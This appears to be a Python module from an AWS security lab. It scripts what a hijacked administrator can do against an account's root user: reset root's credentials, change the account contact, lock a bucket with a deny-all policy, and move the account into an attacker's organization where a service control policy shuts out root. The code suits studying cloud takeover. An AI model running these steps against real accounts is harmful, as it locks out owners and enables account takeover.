"""What an administrator who is taken over can do to the root user of the account, and what not.

AWS pages: https://docs.aws.amazon.com/IAM/latest/UserGuide/id_root-user.html,
https://docs.aws.amazon.com/organizations/latest/userguide/orgs_manage_policies_scps.html
"""

from __future__ import annotations

import json
from collections.abc import Callable
from typing import TYPE_CHECKING, Any

from helpers.lab.attacks.step import Step, attempt
from helpers.lab.attacks.takeover import thiefs_home
from helpers.lab.caller import Caller

if TYPE_CHECKING:
    from helpers.lab.accounts import LabAccount
    from helpers.lab.lab import Lab

DENY_EVERYTHING = {
    "Version": "2012-10-17",
    "Statement": [{"Effect": "Deny", "Action": "*", "Resource": "*"}],
}
CONTACT = {
    "FullName": "The Thief",
    "AddressLine1": "1 Any Street",
    "City": "Anytown",
    "CountryCode": "US",
    "PostalCode": "12345",
    "PhoneNumber": "+15555550100",
}


def against_root(administrator: Caller, bucket: str) -> list[Step]:
    """An administrator's attempts on the root user and what is root's: one step each.

    The last two work, and change the account: its contact, and the policy of ``bucket``, which
    denies everybody afterwards.
    """
    iam = administrator.client("iam")
    root = {"UserName": "root"}
    steps: list[tuple[str, Callable[..., Any], dict[str, Any]]] = [
        (
            "set root's password",
            iam.update_login_profile,
            {**root, "Password": "root-Is-mine-now-1"},
        ),
        ("make a key for root", iam.create_access_key, root),
        ("see root's keys", iam.list_access_keys, root),
        (
            "put a Deny on root",
            iam.put_user_policy,
            {**root, "PolicyName": "Out", "PolicyDocument": json.dumps(DENY_EVERYTHING)},
        ),
        ("delete root", iam.delete_user, root),
        ("see whether root has MFA and keys", iam.get_account_summary, {}),
        (
            "change the account's phone number",
            administrator.client("account").put_contact_information,
            {"ContactInformation": CONTACT},
        ),
        (
            f"close the bucket {bucket} for everybody",
            administrator.client("s3").put_bucket_policy,
            {"Bucket": bucket, "Policy": json.dumps(closed_bucket(bucket))},
        ),
    ]
    return [attempt(name, call, **parameters)[0] for name, call, parameters in steps]


def closed_bucket(bucket: str) -> dict[str, Any]:
    """A bucket policy that denies everybody everything."""
    arn = f"arn:aws:s3:::{bucket}"
    statement = {
        "Sid": "NobodyAnyMore",
        "Effect": "Deny",
        "Principal": "*",
        "Action": "s3:*",
        "Resource": [arn, f"{arn}/*"],
    }
    return {"Version": "2012-10-17", "Statement": [statement]}


def past_root(lab: Lab, administrator: Caller, account: LabAccount | None = None) -> list[Step]:
    """The one way past root: the account becomes a member of the thief's organization.

    There a service control policy denies the root user everything. At the end the account is let
    go again, so that what follows finds it free.
    """
    victim = account or lab.accounts[lab.account.id]
    thief = thiefs_home(lab).root.client("organizations")
    _organize(thief)
    steps = []

    def step(name: str, call: Callable[..., Any], **parameters: Any) -> Any:
        made, answer = attempt(name, call, **parameters)
        steps.append(made)
        return answer

    invited = step(
        "the thief's organization invites the account",
        thief.invite_account_to_organization,
        Target={"Id": victim.id, "Type": "ACCOUNT"},
    )
    joined = invited and step(
        "the administrator accepts",
        administrator.client("organizations").accept_handshake,
        HandshakeId=invited["Handshake"]["Id"],
    )
    if not joined:
        return steps
    policy = _deny_root(thief)
    step(
        "the thief denies root everything, by an SCP",
        thief.attach_policy,
        PolicyId=policy,
        TargetId=victim.id,
    )
    step("root lists the users", victim.root.client("iam").list_users)
    step(
        "root leaves the organization",
        victim.root.client("organizations").leave_organization,
    )
    thief.remove_account_from_organization(AccountId=victim.id)
    return steps


def _organize(thief: Any) -> None:
    try:
        thief.create_organization(FeatureSet="ALL")
    except thief.exceptions.AlreadyInOrganizationException:
        return
    top = thief.list_roots()["Roots"][0]["Id"]
    thief.enable_policy_type(RootId=top, PolicyType="SERVICE_CONTROL_POLICY")


def _deny_root(thief: Any) -> str:
    for policy in thief.list_policies(Filter="SERVICE_CONTROL_POLICY")["Policies"]:
        if policy["Name"] == "NothingForRoot":
            return policy["Id"]
    by_root = {"ArnLike": {"aws:PrincipalArn": "arn:aws:iam::*:root"}}
    statement = {"Effect": "Deny", "Action": "*", "Resource": "*", "Condition": by_root}
    made = thief.create_policy(
        Name="NothingForRoot",
        Description="Whoever is root there may do nothing.",
        Type="SERVICE_CONTROL_POLICY",
        Content=json.dumps({"Version": "2012-10-17", "Statement": [statement]}),
    )
    return made["Policy"]["PolicySummary"]["Id"]
